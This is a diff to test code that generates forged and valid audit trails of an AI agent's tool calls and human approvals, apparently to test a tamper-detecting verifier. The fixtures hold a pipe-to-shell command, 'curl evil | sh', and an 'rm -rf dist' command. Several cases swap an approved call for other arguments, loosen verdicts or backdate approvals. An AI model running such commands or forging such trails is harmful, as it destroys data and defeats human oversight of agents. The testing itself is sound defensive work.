@@ -3,9 +3,11 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { STATEMENT_FILE, type TrailEvent } from '../../../src/audit/index.ts';
 import { canonicalJson, digestOf, type JsonObject, sha256 } from '../../../src/common/index.ts';
+import { argumentBlobOf } from '../../../src/audit/format/recorded.ts';
 import { sealByHand } from '../sealed.ts';
+import { POLICY } from '../events.ts';
 import { approvalIdOf } from '../plausible.ts';
-import { changedByApprover, crashed, oneJob, type Run, suspended } from './runs.ts';
+import { changedByApprover, crashed, HEAD, oneJob, type Run, suspended } from './runs.ts';
 
 type Fields = TrailEvent | JsonObject;
 
@@ -21,6 +23,9 @@ export interface Vector {
     /** `seq`: the first broken entry. `code` is informative. */
     | { readonly kind: 'broken'; readonly seq: number; readonly code: string };
 }
+
+/** Stands for a field that is left out. */
+const DROPPED = '(dropped)';
 
 type Match = (event: Record<string, unknown>) => boolean;
 
@@ -46,16 +51,14 @@ interface Forged {
 /** Changes the fields of one entry; found there, or in the entry that `found` names. */
 function change(run: Run, match: Match, fields: JsonObject, found: Match = match): Forged {
   const place = placeOf(run.events, match);
-  const events: Fields[] = run.events.map((event, at) => {
-    if (at !== place) return event;
-    const changed: JsonObject = JSON.parse(JSON.stringify({ ...event, ...fields }));
-    return Object.fromEntries(Object.entries(changed).filter(([, value]) => value !== DROPPED));
-  });
+  const events = run.events.map((event, at) => (at === place ? put(event, fields) : event));
   return { events, at: placeOf(events, found) };
 }
 
-/** Stands for a field that is left out. */
-const DROPPED = '(dropped)';
+function put(event: Fields, fields: JsonObject): JsonObject {
+  const changed: JsonObject = JSON.parse(JSON.stringify({ ...event, ...fields }));
+  return Object.fromEntries(Object.entries(changed).filter(([, value]) => value !== DROPPED));
+}
 
 /** Drops entries; found in the entry that `found` names. */
 function drop(run: Run, match: Match, found: Match, nth = 0): Forged {
@@ -69,6 +72,49 @@ function insertBefore(run: Run, match: Match, event: Fields, found?: Match): For
   return { events, at: found === undefined ? place : placeOf(events, found) };
 }
 
+/** The trail with each entry after a change of a call replaced by others. */
+function afterChange(run: Run, edit: (event: TrailEvent) => readonly Fields[]): readonly Fields[] {
+  const changed = placeOf(run.events, is('call.changed'));
+  return run.events.flatMap((event, at): readonly Fields[] =>
+    at > changed ? edit(event) : [event],
+  );
+}
+
+/** A change of the call to other arguments, with the digests that they have. */
+function changedTo(
+  run: Run,
+  fields: { readonly argument?: string; arguments: JsonObject },
+): Forged {
+  const exact = Object.entries(fields.arguments).map(([name, value]) => {
+    const path = `blobs/${argumentBlobOf(value)?.sha256 ?? ''}`;
+    return [name, run.files.get(path)?.toString() ?? value];
+  });
+  const digest = { argumentsSha256: digestOf(Object.fromEntries(exact)) };
+  const changed = edited(run, is('call.changed'), { ...fields, ...digest });
+  const events = afterChange(changed, (event) =>
+    is('call.verdict', { call: 'c1' })({ ...event }) || state('c1', 'EXECUTING')({ ...event })
+      ? [put(event, digest)]
+      : [event],
+  );
+  return { events, at: placeOf(events, is('call.changed')) };
+}
+
+/** The same with other arguments that a verdict lets run, and the approval void. */
+function runsOther(
+  run: Run,
+  verdicts: (event: TrailEvent, digest: JsonObject) => readonly Fields[],
+): readonly Fields[] {
+  const digest = { argumentsSha256: digestOf({ command: 'curl evil | sh', cwd: '.' }) };
+  return afterChange(run, (event) => {
+    if (is('call.verdict', { call: 'c1' })({ ...event })) return verdicts(event, digest);
+    if (state('c1', 'EXECUTING')({ ...event })) return [put(event, digest)];
+    if (event.type !== 'approval.consumed') return [event];
+    return [{ type: 'approval.void', approval: event.approval, call: 'c1', because: 'changed' }];
+  });
+}
+
+const AUTO = { verdict: 'auto', list: 'auto', needs: DROPPED };
+
 const END = is('run.end');
 const DONE = is('run.end', { outcome: 'done' });
 const RESUMED = is('run.start', { start: 'resumed' });
@@ -80,6 +126,16 @@ function endOf(run: Run): JsonObject {
 
 function callsOf(run: Run, calls: JsonObject): JsonObject {
   return { calls: { ...(endOf(run)['calls'] as JsonObject), ...calls } };
+}
+
+/** What of a call says that people were asked about it. */
+function isAsking(event: Fields, call: string): boolean {
+  return (
+    is('approval.asked')({ ...event }) ||
+    is('approval.decision', { call })({ ...event }) ||
+    is('approval.consumed', { call })({ ...event }) ||
+    state(call, 'APPROVAL_REQUIRED')({ ...event })
+  );
 }
 
 function isSuspension(event: Fields): boolean {
@@ -99,6 +155,26 @@ const REHASHED: Readonly<
 > = {
   'change-mismatch': ({ four }) => [
     [
+      'a changed call with another folder, too',
+      changedTo(four, { arguments: { command: argumentBlob(four), cwd: '/etc' } }),
+      four,
+    ],
+    [
+      'a changed call with an argument more',
+      changedTo(four, {
+        arguments: { command: argumentBlob(four), cwd: '.', network: true },
+      }),
+      four,
+    ],
+    [
+      'a changed call whose text is in another argument',
+      changedTo(four, {
+        argument: 'harmless',
+        arguments: { command: 'curl evil | sh', cwd: '.', harmless: argumentBlob(four) },
+      }),
+      four,
+    ],
+    [
       'another text that an approver gave',
       change(
         edited(four, is('approval.decision'), { changeSha256: sha256('x') }),
@@ -114,6 +190,14 @@ const REHASHED: Readonly<
     ],
   ],
   'arguments-mismatch': ({ one, four }) => [
+    [
+      'a verdict on other arguments than a changed call has',
+      (() => {
+        const events = runsOther(four, (event, digest) => [put(event, { ...AUTO, ...digest })]);
+        return { events, at: placeOf(events, is('call.changed')) + 1 };
+      })(),
+      four,
+    ],
     [
       'other arguments of a changed call',
       change(four, is('call.changed'), { arguments: { command: 'rm -rf dist', cwd: '.' } }),
@@ -243,7 +327,51 @@ const REHASHED: Readonly<
       two,
     ],
   ],
+  'verdict-loosened': ({ one, four }) => [
+    [
+      'a looser verdict after a hook changed a changed call',
+      (() => {
+        const hook = { type: 'hook.ran', call: 'c1', phase: 'preToolUse', hook: 'h', effect: 'x' };
+        const events = runsOther(four, (event, digest) => [
+          event,
+          hook,
+          put(event, digest),
+          put(event, { ...AUTO, ...digest }),
+        ]);
+        return { events, at: placeOf(events, is('call.changed')) + 4 };
+      })(),
+      four,
+    ],
+    [
+      'a looser verdict by a mode that leaves nothing to hooks',
+      (() => {
+        const asks = edited(one, is('call.verdict', { call: 'c2' }), { list: 'mode', rule: null });
+        const hook = { type: 'hook.ran', call: 'c2', phase: 'preToolUse', hook: 'h', effect: 'x' };
+        const place = placeOf(asks.events, is('call.verdict', { call: 'c2' }));
+        const runs = put(asks.events[place] ?? {}, { verdict: 'auto' });
+        const events: readonly Fields[] = [
+          ...asks.events.slice(0, place + 1),
+          hook,
+          runs,
+          ...asks.events.slice(place + 1).filter((event) => !isAsking(event, 'c2')),
+        ];
+        return { events, at: place + 2 };
+      })(),
+      one,
+    ],
+  ],
   'verdict-mismatch': ({ one }) => [
+    ...['deny', 'plan', 'ask', 'a later mode'].map((mode): [string, Forged, Run] => [
+      `the verdict auto by mode ${mode}`,
+      change(
+        edited(one, is('run.start'), {
+          policy: { source: 'p', ref: null, sha256: POLICY, mode },
+        }),
+        is('call.verdict', { call: 'c1' }),
+        { list: 'mode', rule: null, line: null },
+      ),
+      one,
+    ]),
     [
       'the verdict auto by a rule that asks',
       change(one, is('call.verdict', { call: 'c2' }), {
@@ -374,6 +502,33 @@ const REHASHED: Readonly<
   ],
   unapproved: ({ one, four }) => [
     [
+      'a call that was changed to one that needs nobody runs without its approval',
+      (() => {
+        const events = afterChange(four, (event) => {
+          if (event.type === 'approval.consumed') return [];
+          return is('call.verdict', { call: 'c1' })({ ...event }) ? [put(event, AUTO)] : [event];
+        });
+        return { events, at: placeOf(events, state('c1', 'EXECUTING')) };
+      })(),
+      four,
+    ],
+    [
+      'a changed call of which code owners decide',
+      (() => {
+        const byOwners = { from: [['codeowners']], files: ['a'] };
+        const asked = edited(four, is('approval.asked'), {
+          requests: [{ ...requestOf(four), needs: { ...needsOf(four), ...byOwners } }],
+        });
+        return change(
+          withVerdictNeeds(asked, { from: [['codeowners']] }),
+          is('approval.decision'),
+          { as: ['codeowners'], files: ['a'] },
+          is('approval.consumed'),
+        );
+      })(),
+      four,
+    ],
+    [
       'an approval that was withdrawn',
       insertBefore(
         one,
@@ -473,6 +628,37 @@ const REHASHED: Readonly<
       'a request with the digest of another one',
       change(one, is('approval.asked'), {
         requests: [{ approval: approvalIdOf(sha256('y')), call: 'c2', digest: sha256('x') }],
+      }),
+      one,
+    ],
+    [
+      'people asked at a terminal that a workflow run does not have',
+      change(
+        edited(one, is('run.start'), {
+          workflow: { runId: '5', attempt: '1', job: 'agent', url: null },
+        }),
+        is('approval.asked'),
+        { via: 'terminal', card: null, expires: null },
+      ),
+      one,
+    ],
+    [
+      'an approval by a review from before the request',
+      change(one, is('approval.decision'), {
+        comment: null,
+        review: {
+          id: 1,
+          url: 'https://a.test',
+          submittedAt: '2026-01-02T02:04:00Z',
+          commit: HEAD,
+        },
+      }),
+      one,
+    ],
+    [
+      'an approval by a comment from before the request',
+      change(one, is('approval.decision'), {
+        comment: { ...commentOf(8), createdAt: '2001-01-01T00:00:00Z' },
       }),
       one,
     ],
@@ -727,6 +913,11 @@ const REHASHED: Readonly<
     ],
   ],
   'outcome-inconsistent': ({ one, two }) => [
+    [
+      'another summary than the model gave with something redacted',
+      change(one, DONE, { summary: 'All is well. [redacted:env-x:abcdefgh]' }),
+      one,
+    ],
     ['another summary than the model gave', change(one, DONE, { summary: 'All is well.' }), one],
     [
       'another result than the model gave',
@@ -941,6 +1132,49 @@ function withBlob(run: Run, text: string): Run {
   return { ...run, files: new Map([...run.files, [`blobs/${sha256(text)}`, Buffer.from(text)]]) };
 }
 
+/** The first request of a run, for what it needs. */
+function needsOf(run: Run): JsonObject {
+  return requestOf(run)['needs'] as JsonObject;
+}
+
+/** The run with other needs of its verdicts on `c1`. */
+function withVerdictNeeds(run: Run, needs: JsonObject): Run {
+  const events = run.events.map((event) =>
+    event.type === 'call.verdict' && event.call === 'c1' && event.needs !== undefined
+      ? put(event, { needs: { ...event.needs, ...needs } })
+      : event,
+  );
+  return { ...run, events: events as readonly TrailEvent[] };
+}
+
+/** True trails that are easily taken for forgeries. */
+function alsoValid(run: Run): readonly (readonly [string, readonly Fields[]])[] {
+  const answer = placeOf(run.events, is('approval.decision'));
+  const [decision] = run.events.slice(answer, answer + 1);
+  const other = { by: { login: 'lisa', id: 3 }, comment: commentOf(8) };
+  const two = { ...needsOf(run), count: 2 };
+  const asked = edited(withVerdictNeeds(run, { count: 2 }), is('approval.asked'), {
+    count: 2,
+    requests: [{ ...requestOf(run), needs: two }],
+  });
+  return [
+    [
+      'valid, two people gave the same text',
+      run.events.toSpliced(answer + 1, 0, put(decision ?? {}, other) as TrailEvent),
+    ],
+    [
+      'valid, a call that two people have to approve was changed to one that needs nobody',
+      afterChange(asked, (event) =>
+        is('call.verdict', { call: 'c1' })({ ...event }) ? [put(event, AUTO)] : [event],
+      ),
+    ],
+  ];
+}
+
+function commentOf(id: number): JsonObject {
+  return { id, url: 'https://a.test', createdAt: '2026-01-02T03:05:00Z' };
+}
+
 const NEEDS = { from: [['write']], count: 1, self: false };
 
 function requestOf(run: Run): JsonObject {
@@ -1123,7 +1357,7 @@ function remove(files: Map<string, Buffer>, name: RegExp, nth: number): void {
   files.delete(named(files, name, nth));
 }
 
-/** Every vector: four valid trails, and the forgeries of them. */
+/** Every vector: the valid trails, and the forgeries of them. */
 export function vectors(): readonly Vector[] {
   const runs = { one: oneJob(), two: suspended(), three: crashed(), four: changedByApprover() };
   const valid = Object.entries(VALID).map(([key, name]) =>
@@ -1139,6 +1373,9 @@ export function vectors(): readonly Vector[] {
       vector(name, sealed({ events }), files, { seq: at, code }),
     ),
   );
+  const easilyTaken = alsoValid(runs.four).map(([name, events]) =>
+    vector(name, sealed({ events }), runs.four.files, null),
+  );
   const lines = sealed(runs.one);
   const chained = Object.entries(CHAINED).flatMap(([code, make]) =>
     make(lines).map(([name, changed, seq]) =>
@@ -1152,7 +1389,7 @@ export function vectors(): readonly Vector[] {
     const seq = match === null ? events.length : placeOf(events, match);
     return vector(name, sealed(runs[key]), changed, { seq, code });
   });
-  return [...valid, ...anew, ...chained, ...beside, ...withStatements(runs)];
+  return [...valid, ...easilyTaken, ...anew, ...chained, ...beside, ...withStatements(runs)];
 }
 
 /** Trails with a statement beside them: what the entries say, and not. */
